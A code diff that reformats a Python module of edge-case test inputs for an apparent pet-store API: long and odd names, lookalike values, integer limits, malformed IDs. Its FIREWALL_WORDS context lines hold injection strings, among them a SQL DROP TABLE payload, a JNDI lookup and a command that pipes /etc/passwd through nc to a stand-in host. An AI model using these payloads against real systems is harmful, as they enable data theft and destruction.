@@ -46,33 +46,12 @@ NAME_CORNERS: Final = (
     "a\r\nb\n\nc",
 )
 LONG_NAME_CORNERS: Final = (
-    "x" * 240,
-    "y" * 300,
-    "\U0001f43e" * 140,
-    "z" * 1100,
-    "w" * 1200,
-    "v" * 4200,
-    "u" * 8000,
-)
+    "x" * 240, "y" * 300, "\U0001f43e" * 140, "z" * 1100, "w" * 1200, "v" * 4200, "u" * 8000,
+)  # fmt: skip
 # In front of a name: what other formats begin a value with, and what is not a letter of one byte.
 FRONT_CORNERS: Final = (
-    "-",
-    "=",
-    "'",
-    '"',
-    "@",
-    "#",
-    "/",
-    "[",
-    "\U0001f98a",
-    "0",
-    "\u00e9",
-    "+",
-    ".",
-    "$",
-    "{",
-    "_",
-)
+    "-", "=", "'", '"', "@", "#", "/", "[", "\U0001f98a", "0", "\u00e9", "+", ".", "$", "{", "_",
+)  # fmt: skip
 # What firewalls take for an attack, and text does not have to fear.
 FIREWALL_WORDS: Final = (
     " ' OR '1'='1'; DROP TABLE pets; --",
@@ -82,90 +61,37 @@ FIREWALL_WORDS: Final = (
     " ${jndi:ldap://animals.example/a}",
     " ; cat /etc/passwd | nc animals.example 80",
 )
-# Names that loosely typed code reads as numbers, booleans, nulls, dates, quoted texts and
-# formulas.
+# Names that loosely typed code reads as numbers, booleans, nulls, dates, quoted texts and formulas.
 LOOKALIKE_NAMES: Final = (
-    "00{}",
-    "0{}",
-    "{}",
-    "{}e1",
-    "{}.0",
-    "true",
-    "null",
-    "{}.50",
-    '"{}"',
-    "={}",
-    "{moment:%Y-%m-%dT%H:%M:%SZ}",
-    "{moment:%Y-%m-%d}",
+    "00{}", "0{}", "{}", "{}e1", "{}.0", "true", "null", "{}.50", '"{}"', "={}",
+    "{moment:%Y-%m-%dT%H:%M:%SZ}", "{moment:%Y-%m-%d}",
     # Properties that every JavaScript object has.
-    "__proto__",
-    "constructor",
+    "__proto__", "constructor",
     # Names of one letter, or of none.
-    "x",
-    "\U0001f98a",
-    "-",
-    "undefined",
-    "NaN",
-    "[]",
-)
+    "x", "\U0001f98a", "-", "undefined", "NaN", "[]",
+)  # fmt: skip
 OUTER_SPACE_NAMES: Final = (" inner  space ", "\tname\n")
 
 CATEGORY_ID_CORNERS: Final = (
-    2**53 + 1,
-    INT64_MAXIMUM,
-    INT64_MINIMUM,
-    2**31,
-    -(2**53) - 1,
-    2**32 + 1,
-    0,
-    -1,
-    2**31 - 1,
-    -(2**31) - 1,
-    INT64_MAXIMUM - 1,
-    10**18 + 1,
-)
+    2**53 + 1, INT64_MAXIMUM, INT64_MINIMUM, 2**31, -(2**53) - 1, 2**32 + 1, 0, -1, 2**31 - 1, -(2**31) - 1,
+    INT64_MAXIMUM - 1, 10**18 + 1,
+)  # fmt: skip
 
 LIMIT_CORNERS: Final = (1, 2, 20, 21, 100, 99, 19, 50, 5, 10)
 INVALID_LIMITS: Final = (
-    "101",
-    "0",
-    "abc",
-    "1000",
-    "-1",
-    "1.5",
-    "-100",
-    "102",
-    "2147483648",
-    "9223372036854775808",
-    "1" * 40,
-    "inf",
-    "true",
-    "1a",
-    "null",
-    "-9223372036854775809",
-    'a"b',
+    "101", "0", "abc", "1000", "-1", "1.5", "-100", "102", "2147483648", "9223372036854775808", "1" * 40, "inf",
+    "true", "1a", "null", "-9223372036854775809", 'a"b',
     # A digit to some parsers, and an integer to none.
     "\u00b2",
-)
+)  # fmt: skip
 OPEN_LIMITS: Final = ("", "+5", "05", "5.0", " 5", "1e1", "1e400")
 INVALID_STATUSES: Final = ("lost", "unknown", "available,sold", "0", "*", 'so"ld', "constructor")
 OPEN_STATUSES: Final = ("", "SOLD", "Available")
 
 MALFORMED_PET_IDS: Final = (
-    "abc",
-    "1.5",
-    "9223372036854775808",
-    "-9223372036854775809",
-    "1a",
-    "null",
-    "true",
-    "9" * 128,
-    "a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a11",
-    "18446744073709551617",
-    "NaN",
-    "constructor",
-    "-",
-)
+    "abc", "1.5", "9223372036854775808", "-9223372036854775809", "1a", "null", "true", "9" * 128,
+    "a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a11", "18446744073709551617", "NaN", "constructor", "-",
+)  # fmt: skip
 OPEN_PET_IDS: Final = ("+1", "01", "1.0", "1e0", "\u00b2")
 
 
